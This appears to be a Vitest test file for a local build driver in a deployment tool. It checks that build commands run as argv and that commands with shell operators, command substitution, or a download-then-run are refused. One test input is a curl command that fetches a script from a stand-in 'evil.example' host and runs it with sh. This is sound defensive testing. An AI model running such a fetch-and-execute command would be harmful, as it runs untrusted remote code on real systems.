import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { AnalysisReport } from '#contracts';
import { DomainError, InstallationLayout } from '#common';
import type { ProgressReporter } from '#messaging';
import { builderConfigSchema } from '../builder.config.js';
import { planBuild } from '../dockerfile/generate.js';
import { LocalBuildDriver } from './local-build.driver.js';

const dir = mkdtempSync(join(tmpdir(), 'servergem-local-build-'));
const home = mkdtempSync(join(tmpdir(), 'servergem-local-build-home-'));
// As root, the service's HOME lives in the shared folder outside the home.
const layout = InstallationLayout.resolve({ home });
afterAll(() => {
  for (const folder of [dir, home, ...(layout.separate ? [layout.shared] : [])]) rmSync(folder, { recursive: true, force: true });
});

function report(commands: Partial<AnalysisReport['commands']>): AnalysisReport {
  return {
    language: 'node',
    framework: null,
    runtime: { name: 'node', version: null },
    packageManager: 'npm',
    commands: { install: [], build: [], start: 'node server.js', ...commands },
    port: null,
    portFromEnv: true,
    env: [],
    appPath: '.',
    staticDir: null,
    dockerfile: null,
    evidence: [],
    confidence: 0.9,
    warnings: [],
    services: [],
  };
}

async function build(plan: AnalysisReport, logs: string[] = []) {
  const reporter = { step: () => undefined, log: (line: string) => logs.push(line), logLine: (line: string) => logs.push(line) } as unknown as ProgressReporter;
  const sut = new LocalBuildDriver(
    builderConfigSchema.parse({ BUILD_TIMEOUT_SECONDS: '60', PATH: process.env.PATH }),
    () => layout,
    () => {
      throw new Error('no toolchain is asked for');
    },
  );
  return sut.build({
    deploymentId: 'd1',
    serviceName: 'svc',
    commitSha: null,
    report: plan,
    target: 'local',
    sourceDir: dir,
    appDir: dir,
    plan: { dockerfile: '', dockerignore: '', own: false },
    reporter,
  });
}

describe(LocalBuildDriver.name, () => {
  it('runs each command as the argv the Dockerfile would, quotes and assignments included', async () => {
    const write = `node -e "require('fs').writeFileSync('built.txt', process.argv[1] + ' ' + process.env.GREETING)"`;
    await build(report({ build: [`GREETING=hi ${write} -- "my app"`] }));
    expect(readFileSync(join(dir, 'built.txt'), 'utf8')).toBe('my app hi');
  });

  it.each([
    ['a shell operator', (marker: string) => `node --version && touch ${marker}`],
    ['a command substitution', (marker: string) => `node --version $(touch ${marker})`],
    ['a download that is then run', (marker: string) => `curl -o ${marker} https://evil.example/x && sh ${marker}`],
  ])('runs nothing of a build command with %s: it is refused as a whole', async (_what, command) => {
    const marker = join(dir, `marker-${Math.random().toString(36).slice(2)}`);
    const error = await build(report({ build: [command(marker)] })).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DomainError);
    expect((error as DomainError).code).toBe('BUILD_FAILED');
    expect(existsSync(marker)).toBe(false);
    // The same plan never becomes a Dockerfile either.
    expect(() => planBuild(report({ build: [command(marker)] }))).toThrow(DomainError);
  });
});
